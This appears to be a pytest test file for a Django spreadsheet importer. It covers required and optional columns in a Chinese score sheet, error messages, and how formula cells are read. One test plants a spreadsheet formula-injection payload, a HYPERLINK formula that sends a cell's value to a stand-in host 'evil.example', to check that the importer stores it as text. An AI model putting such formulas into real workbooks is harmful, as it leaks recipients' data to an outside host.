"""Required columns are required, an absent optional column is reported as absent, and a
formula in an uploaded workbook is read as its text (numbers: the result saved with it)."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook

from reports.spreadsheets import Field, ImportFailed, SpreadsheetImport, reader, run_import
from tests.reports.test_import import workbook_bytes

pytestmark = pytest.mark.django_db


class ScoresImport(SpreadsheetImport):
    fields = [
        Field("name", "姓名"),
        Field("score", "成绩", kind="decimal", required=False, column_required=True),
        Field("note", "备注", required=False),
    ]

    def __init__(self):
        super().__init__()
        self.rows = []

    def save_row(self, row):
        self.rows.append(row)


def test_a_missing_required_column_refuses_the_sheet_naming_column_sheet_and_header_row():
    fp = workbook_bytes([["成绩登记表"], ["姓名", "备注"], ["张三", ""]], title="成绩")
    importer = ScoresImport()
    with pytest.raises(ImportFailed) as caught:
        run_import(fp, importer)
    [error] = caught.value.errors
    assert (error.sheet, error.row) == ("成绩", 2)  # the header row found
    assert "成绩" in error.message and "姓名" not in error.message and "备注" not in error.message
    assert str(error).startswith("工作表“成绩”第 2 行")
    assert importer.rows == []


def test_a_column_required_may_have_blank_cells():
    importer = ScoresImport()
    run_import(workbook_bytes([["姓名", "成绩"], ["张三", None], ["李四", 90]]), importer)
    assert [row.values["score"] for row in importer.rows] == [None, 90]


def test_an_absent_optional_column_is_not_present_but_a_blank_cell_is():
    importer = ScoresImport()
    run_import(workbook_bytes([["姓名", "成绩"], ["张三", 80]]), importer)
    [row] = importer.rows
    assert row.present == {"name", "score"} and row.given() == {"name": "张三", "score": 80}
    importer = ScoresImport()
    run_import(workbook_bytes([["姓名", "成绩", "备注"], ["张三", 80, None]]), importer)
    [row] = importer.rows
    assert "note" in row.present and row.given()["note"] is None


def test_no_header_at_all_names_every_required_column():
    with pytest.raises(ImportFailed) as caught:
        run_import(workbook_bytes([["甲", "乙"], [1, 2]]), ScoresImport())
    [error] = caught.value.errors
    assert error.row is None and "姓名" in error.message and "成绩" in error.message
    assert "备注" not in error.message


def with_cached_results(fp, results: dict[str, tuple[str, str]]):
    """Rewrite openpyxl's formula cells (which it saves without a result) as Excel saves them:
    the formula and its result. ``results``: coordinate -> (cell type, saved result)."""
    source = zipfile.ZipFile(fp)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                for coordinate, (kind, result) in results.items():
                    text = re.sub(
                        rf'<c r="{coordinate}"><f>(.*?)</f><v></v></c>',
                        lambda m, k=kind, r=result, c=coordinate: (
                            f'<c r="{c}" t="{k}"><f>{m[1]}</f><v>{r}</v></c>'
                        ),
                        text,
                    )
                data = text.encode()
            target.writestr(info, data)
    out.seek(0)
    return out


def test_a_formula_is_imported_as_its_text_and_a_number_as_its_saved_result():
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "成绩", "备注"])
    sheet.append(['=HYPERLINK("http://evil.example/?x="&B2,"张三")', "=SUM(40,50)", "=1+1"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    fp = with_cached_results(buffer, {"A2": ("str", "张三"), "B2": ("n", "90"), "C2": ("n", "2")})
    importer = ScoresImport()
    run_import(fp, importer)
    [row] = importer.rows
    assert row.values["name"] == '=HYPERLINK("http://evil.example/?x="&B2,"张三")'  # not the result 张三
    assert row.values["score"] == 90  # =SUM(...) in a number column: the result Excel saved
    assert row.values["note"] == "=1+1"


def test_a_number_formula_without_a_saved_result_is_an_error_naming_the_formula():
    book = Workbook()
    book.active.append(["姓名", "成绩"])
    book.active.append(["张三", "=SUM(40,50)"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    with pytest.raises(ImportFailed) as caught:
        run_import(buffer, ScoresImport())
    [error] = caught.value.errors
    assert (error.row, error.column) == (2, "B") and "=SUM(40,50)" in error.message


def test_rows_of_formulas_with_blank_results_below_the_data_are_blank_rows():
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "成绩", "备注"])
    sheet.append(["张三", 90, None])
    sheet.append(['=IF(D3="","",D3)', '=IF(E3="","",E3)', None])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    fp = with_cached_results(buffer, {"A3": ("str", ""), "B3": ("str", "")})
    importer = ScoresImport()
    assert run_import(fp, importer).rows == 1


def test_a_sheet_without_formulas_is_read_once_and_one_with_formulas_twice(monkeypatch):
    opened = []
    real = reader.load_workbook

    def counting(*args, **kwargs):
        opened.append(kwargs.get("data_only"))
        return real(*args, **kwargs)

    monkeypatch.setattr(reader, "load_workbook", counting)
    run_import(workbook_bytes([["姓名", "成绩", "备注"], ["张三", 90, "f 开头的文字"]]), ScoresImport())
    assert opened == [True]
    opened.clear()
    book = Workbook()
    book.active.append(["姓名", "成绩", "备注"])
    book.active.append(["张三", "=SUM(40,50)", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    fp = with_cached_results(buffer, {"B2": ("n", "90")})
    importer = ScoresImport()
    run_import(fp, importer)
    assert opened == [True, False] and importer.rows[0].values["score"] == 90
